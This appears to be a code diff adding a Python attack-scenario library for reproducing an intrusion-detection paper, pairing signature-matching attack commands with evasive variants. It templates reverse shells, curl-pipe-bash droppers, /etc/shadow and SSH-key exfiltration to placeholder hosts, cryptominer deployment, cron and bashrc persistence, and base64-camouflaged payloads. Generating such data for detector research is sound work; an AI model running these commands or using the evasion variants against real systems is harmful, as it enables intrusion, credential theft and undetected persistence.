@@ -1,0 +1,251 @@
+"""Attack scenario library with paired in-box / out-of-box variants.
+
+Each :class:`AttackFamily` provides line templates in two flavours:
+
+- **in-box** templates match the simulated commercial IDS's signature
+  rules (:mod:`repro.ids.rulepacks`) — these are the intrusions the
+  supervision source knows about;
+- **out-of-box** templates are functional siblings (flag variants,
+  interpreter swaps, wrapper scripts, argument changes) engineered to
+  slip past the signatures — the intrusions the paper's model digs out.
+
+The pairs in Table III of the paper (nc flags, masscan wrapper script,
+reverse shell via java vs python3, http vs socks5 proxy, base64-decode
+pipelines) are reproduced verbatim up to anonymised arguments.
+"""
+
+from __future__ import annotations
+
+import base64
+from dataclasses import dataclass
+
+import numpy as np
+
+#: Documentation-reserved prefixes (RFC 5737) used for attacker hosts so
+#: generated IPs are unambiguous and never collide with benign pools.
+_ATTACK_NET_PREFIXES = ["203.0.113", "198.51.100", "192.0.2"]
+_COMMON_ATTACK_PORTS = ["4444", "9001", "1337", "6667", "8443", "53"]
+_PAYLOAD_CMDS = ["bash -i", "id; uname -a", "cat /etc/shadow", "curl -s http://203.0.113.7/p.sh | sh"]
+
+
+@dataclass(frozen=True)
+class AttackFamily:
+    """One family of intrusions with in-box and out-of-box variants.
+
+    Attributes
+    ----------
+    name:
+        Family key (e.g. ``reverse_shell``).
+    inbox:
+        Sequences of line templates matching the commercial IDS rules.
+        Each element is one attack *session* (tuple of lines).
+    outbox:
+        Sequences evading the rules while keeping the same function.
+    description:
+        Human-readable summary for docs and Table III output.
+    """
+
+    name: str
+    inbox: tuple[tuple[str, ...], ...]
+    outbox: tuple[tuple[str, ...], ...]
+    description: str
+
+
+def _b64(rng: np.random.Generator) -> str:
+    payload = _PAYLOAD_CMDS[int(rng.integers(len(_PAYLOAD_CMDS)))]
+    # individualise the payload (C2 host / campaign tag) so encoded blobs
+    # are diverse, as they are in real droppers
+    prefix = _ATTACK_NET_PREFIXES[int(rng.integers(len(_ATTACK_NET_PREFIXES)))]
+    tagged = payload.replace("203.0.113.7", f"{prefix}.{int(rng.integers(1, 255))}")
+    tagged = f"{tagged} # {int(rng.integers(1, 10_000))}"
+    return base64.b64encode(tagged.encode()).decode()
+
+
+REVERSE_SHELL = AttackFamily(
+    name="reverse_shell",
+    description="Bind/reverse shells over TCP or UDP (Table III, rows 1 and 3)",
+    inbox=(
+        ("nc -lvnp {port}",),
+        ("bash -i >& /dev/tcp/{host}/{port} 0>&1",),
+        ('java -cp tmp.jar "bash=bash -i >& /dev/tcp/{host}/{port}"',),
+        ("nc -e /bin/sh {host} {port}",),
+        ("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {host} {port} > /tmp/f",),
+    ),
+    outbox=(
+        ("nc -ulp {port}",),
+        ("ncat --udp -l {port}",),
+        ("sh -i >& /dev/udp/{host}/{port} 0>&1",),
+        ('python3 -c "import socket,os,pty; s=socket.socket(); s.connect((\'{host}\',{port})); '
+         '[os.dup2(s.fileno(),fd) for fd in (0,1,2)]; pty.spawn(\'/bin/sh\')"',),
+        ("socat TCP:{host}:{port} EXEC:/bin/sh,pty,stderr",),
+        ('php -r \'$sock=fsockopen("{host}",{port});exec("/bin/sh -i <&3 >&3 2>&3");\'',),
+    ),
+)
+
+PORT_SCAN = AttackFamily(
+    name="port_scan",
+    description="Full-range port scanning (Table III, row 2; Section III anecdote)",
+    inbox=(
+        ("masscan {host} -p 0-65535 --rate=1000 >> tmp.txt",),
+        ("masscan {host} -p 0-65535",),
+        ("nmap -sS -p- {host}",),
+    ),
+    outbox=(
+        ("sh /root/masscan.sh {host} -p 0-65535",),
+        ("bash scan_all.sh {host} 0 65535",),
+        ("seq 1 65535 | xargs -P 64 -I PORT sh -c 'echo > /dev/tcp/{host}/PORT' 2>/dev/null",),
+        ("python3 portscan.py --target {host} --ports 0-65535",),
+    ),
+)
+
+BASE64_EXEC = AttackFamily(
+    name="base64_exec",
+    description="Base64-camouflaged command execution (Table III, rows 5-6)",
+    inbox=(
+        ('java -jar tmp.jar -C "bash -c {{echo,{b64}}} {{base64,-d}} {{bash,-i}}"',),
+        ("echo {b64} | base64 -d | bash -i",),
+        ("echo {b64} | base64 -d | bash",),
+    ),
+    outbox=(
+        ('python3 tmp.py -p "bash -c {{echo,{b64}}} {{base64,-d}} {{base,-i}}"',),
+        ('perl -e \'system("echo {b64} | openssl base64 -d | sh")\'',),
+        ("printf %s {b64} | base64 --decode | sh -i",),
+        ("echo {b64} | openssl enc -base64 -d | sh",),
+    ),
+)
+
+PROXY_TUNNEL = AttackFamily(
+    name="proxy_tunnel",
+    description="Exfiltration proxies and tunnels (Table III, row 4)",
+    inbox=(
+        ('export https_proxy="http://{host}:{port}"',),
+        ('export http_proxy="http://{host}:{port}"',),
+    ),
+    outbox=(
+        ('export https_proxy="socks5://{host}:{port}"',),
+        ('export all_proxy="socks5h://{host}:{port}"',),
+        ("ssh -D {port} -N -f root@{host}",),
+        ("ssh -R 0.0.0.0:{port}:localhost:22 root@{host}",),
+    ),
+)
+
+DOWNLOAD_EXEC = AttackFamily(
+    name="download_exec",
+    description="Download-and-execute droppers, incl. the wget→python rename chain (Section IV-C)",
+    inbox=(
+        ("curl http://{host}/{script} | bash",),
+        ("curl -s http://{host}/{script} | bash",),
+        ("wget -q -O - http://{host}/{script} | bash",),
+        ("wget -c http://{host}/payload -o python", "python"),
+    ),
+    outbox=(
+        ("curl -fsSL http://{host}/{script} -o /tmp/.cache.sh && sh /tmp/.cache.sh",),
+        ("wget http://{host}/{script} -O /dev/shm/.s && chmod +x /dev/shm/.s && /dev/shm/.s",),
+        ("python3 -c \"import urllib.request as u; exec(u.urlopen('http://{host}/{script}').read())\"",),
+        ("curl http://{host}/{script} --output /tmp/up.bin; chmod 755 /tmp/up.bin; /tmp/up.bin",),
+    ),
+)
+
+CREDENTIAL_THEFT = AttackFamily(
+    name="credential_theft",
+    description="Credential and key harvesting",
+    inbox=(
+        ("cat /etc/shadow",),
+        ("cat /etc/shadow | nc {host} {port}",),
+        ("tar -czf /tmp/k.tgz /root/.ssh && curl -F 'f=@/tmp/k.tgz' http://{host}/up",),
+    ),
+    outbox=(
+        ("tail -n +1 /etc/shadow",),
+        ("dd if=/etc/shadow 2>/dev/null | base64",),
+        ("cp /etc/shadow /tmp/.x && curl -T /tmp/.x ftp://{host}/",),
+        ("grep -v '^#' /etc/shadow > /dev/shm/.creds; scp /dev/shm/.creds root@{host}:/tmp/",),
+    ),
+)
+
+CRYPTO_MINER = AttackFamily(
+    name="crypto_miner",
+    description="Cryptominer deployment and persistence",
+    inbox=(
+        ("wget http://{host}/xmrig && chmod +x xmrig && ./xmrig -o pool.minexmr.com:4444",),
+        ("nohup ./xmrig --donate-level 1 -o {host}:{port} &",),
+    ),
+    outbox=(
+        ("curl -s http://{host}/kworker -o /tmp/.kworker; chmod +x /tmp/.kworker; /tmp/.kworker -B",),
+        ("nohup /dev/shm/.systemd-helper --algo rx/0 --url {host}:{port} > /dev/null 2>&1 &",),
+    ),
+)
+
+PERSISTENCE = AttackFamily(
+    name="persistence",
+    description="Cron/bashrc persistence implants",
+    inbox=(
+        ("echo '* * * * * bash -i >& /dev/tcp/{host}/{port} 0>&1' | crontab -",),
+        ("crontab -l | {{ cat; echo '*/5 * * * * curl http://{host}/{script} | bash'; }} | crontab -",),
+    ),
+    outbox=(
+        ("echo 'sh -i >& /dev/udp/{host}/{port} 0>&1' >> ~/.bashrc",),
+        ("printf '@reboot /tmp/.cache.sh\\n' >> /var/spool/cron/root",),
+        ("echo 'python3 /dev/shm/.agent.py &' >> /etc/rc.local",),
+    ),
+)
+
+#: All attack families, in a stable order.
+ATTACK_FAMILIES: tuple[AttackFamily, ...] = (
+    REVERSE_SHELL,
+    PORT_SCAN,
+    BASE64_EXEC,
+    PROXY_TUNNEL,
+    DOWNLOAD_EXEC,
+    CREDENTIAL_THEFT,
+    CRYPTO_MINER,
+    PERSISTENCE,
+)
+
+FAMILY_BY_NAME: dict[str, AttackFamily] = {family.name: family for family in ATTACK_FAMILIES}
+
+_SCRIPTS = ["install.sh", "a.sh", "update.sh", "x.sh", "run.sh"]
+
+
+class AttackSampler:
+    """Instantiate attack sessions from the family library.
+
+    Example
+    -------
+    >>> sampler = AttackSampler(np.random.default_rng(0))
+    >>> lines = sampler.sample("reverse_shell", inbox=True)
+    >>> len(lines) >= 1
+    True
+    """
+
+    def __init__(self, rng: np.random.Generator):
+        self._rng = rng
+
+    def _host(self) -> str:
+        prefix = _ATTACK_NET_PREFIXES[int(self._rng.integers(len(_ATTACK_NET_PREFIXES)))]
+        return f"{prefix}.{int(self._rng.integers(1, 255))}"
+
+    def _port(self) -> str:
+        # attackers reuse iconic ports but also pick ephemeral ones
+        if self._rng.random() < 0.4:
+            return _COMMON_ATTACK_PORTS[int(self._rng.integers(len(_COMMON_ATTACK_PORTS)))]
+        return str(int(self._rng.integers(1024, 65535)))
+
+    def _fill(self, template: str) -> str:
+        return template.format(
+            host=self._host(),
+            port=self._port(),
+            script=_SCRIPTS[int(self._rng.integers(len(_SCRIPTS)))],
+            b64=_b64(self._rng),
+        )
+
+    def sample(self, family: str, inbox: bool) -> list[str]:
+        """One instantiated attack session (list of command lines)."""
+        templates = FAMILY_BY_NAME[family].inbox if inbox else FAMILY_BY_NAME[family].outbox
+        session = templates[int(self._rng.integers(len(templates)))]
+        return [self._fill(line) for line in session]
+
+    def sample_any(self, inbox: bool, families: list[str] | None = None) -> tuple[str, list[str]]:
+        """A random family and one session from it; returns (family, lines)."""
+        pool = families or [f.name for f in ATTACK_FAMILIES]
+        family = pool[int(self._rng.integers(len(pool)))]
+        return family, self.sample(family, inbox)
